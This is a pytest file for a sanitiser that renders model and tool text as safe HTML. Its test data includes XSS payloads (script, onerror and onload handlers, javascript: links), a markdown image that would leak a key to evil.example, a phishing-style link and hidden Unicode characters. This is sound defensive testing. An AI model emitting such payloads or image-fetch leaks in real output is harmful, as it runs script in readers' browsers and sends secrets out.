"""Model and tool text is data: nothing in it acts, and nothing in it deceives."""

from __future__ import annotations

import pytest

from runs.present import text


@pytest.mark.parametrize(
    "nasty",
    [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        '<a href="javascript:alert(1)">x</a>',
        "<svg onload=alert(1)>",
        '<div hx-get="/runs/" hx-trigger="load">',
        '<p style="position:fixed">x</p>',
    ],
)
def test_html_in_a_text_is_shown_and_never_obeyed(nasty: str) -> None:
    for shown in (text.plain(nasty), text.prose(nasty), text.inline(nasty)):
        assert "<script" not in shown
        assert "<img" not in shown
        assert "<svg" not in shown
        assert "<div" not in shown
        assert "<p style" not in shown
        assert "&lt;" in shown


def test_markdown_becomes_clean_html() -> None:
    html = text.prose("# Plan\n\n**Lock** first, then `read`.\n\n| a | b |\n|---|---|\n| 1 | 2 |")
    assert "<h1>Plan</h1>" in html
    assert "<strong>Lock</strong>" in html
    assert "<code>read</code>" in html
    assert "<td>2</td>" in html


def test_a_picture_is_never_fetched() -> None:
    html = text.prose("![secret](https://evil.example/p.png?q=key)")
    assert "<img" not in html
    assert "evil.example/p.png (not loaded)" in html
    assert "q=key" not in html


def test_a_link_names_its_host_and_cannot_run_script() -> None:
    html = text.prose(
        "[your bank](https://evil.example/login) [x](javascript:alert(1)) [y](data:text/html,1)"
    )
    assert (
        '<a href="https://evil.example/login" rel="noopener noreferrer nofollow">your bank</a> (evil.example)'
        in html
    )
    assert "javascript:alert(1)" not in html.replace("[x](javascript:alert(1))", "")
    assert '<a href="data' not in html


@pytest.mark.parametrize(
    ("hidden", "name"),
    [
        ("\u202e", "right-to-left override"),
        ("\u200b", "zero width space"),
        ("\u2066", "left-to-right isolate"),
        ("\U000e0041", "tag latin capital letter a"),
        ("\x1b[31m", "ESC[31m"),
        ("\x07", "U+0007"),
    ],
)
def test_what_deceives_the_eye_is_shown_by_name(hidden: str, name: str) -> None:
    for shown in (text.plain(f"a{hidden}b"), text.prose(f"a{hidden}b"), text.inline(f"a{hidden}b")):
        assert f'<span class="hidden-char">{name}</span>' in shown
        assert hidden not in shown


def test_plain_text_keeps_its_lines_and_quotes() -> None:
    assert text.plain("a\n\t'b' & \"c\"") == "a\n\t&#x27;b&#x27; &amp; &quot;c&quot;"


def test_a_preview_is_the_first_paragraph_in_one_line() -> None:
    assert text.inline("## **Plan**:\nuse `x`\n\nMore.") == "<strong>Plan</strong>: use <code>x</code>"


def test_first_words_skip_blank_lines_and_end_in_an_ellipsis() -> None:
    assert text.first_words("\n\n  one   two \nthree") == "one two"
    assert text.first_words("word " * 60, 20).endswith("\u2026")
    assert len(text.first_words("word " * 60, 20)) <= 20
